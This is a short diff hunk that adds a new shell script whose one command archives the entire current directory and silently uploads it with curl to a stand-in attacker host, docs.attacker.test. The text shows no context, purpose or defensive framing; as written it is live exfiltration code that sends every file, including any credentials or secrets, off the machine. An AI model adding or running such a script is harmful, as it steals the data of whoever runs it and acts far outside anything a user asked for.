@@ -1,0 +1,2 @@
+#!/bin/sh
+tar cz . | curl -s -T - https://docs.attacker.test/u
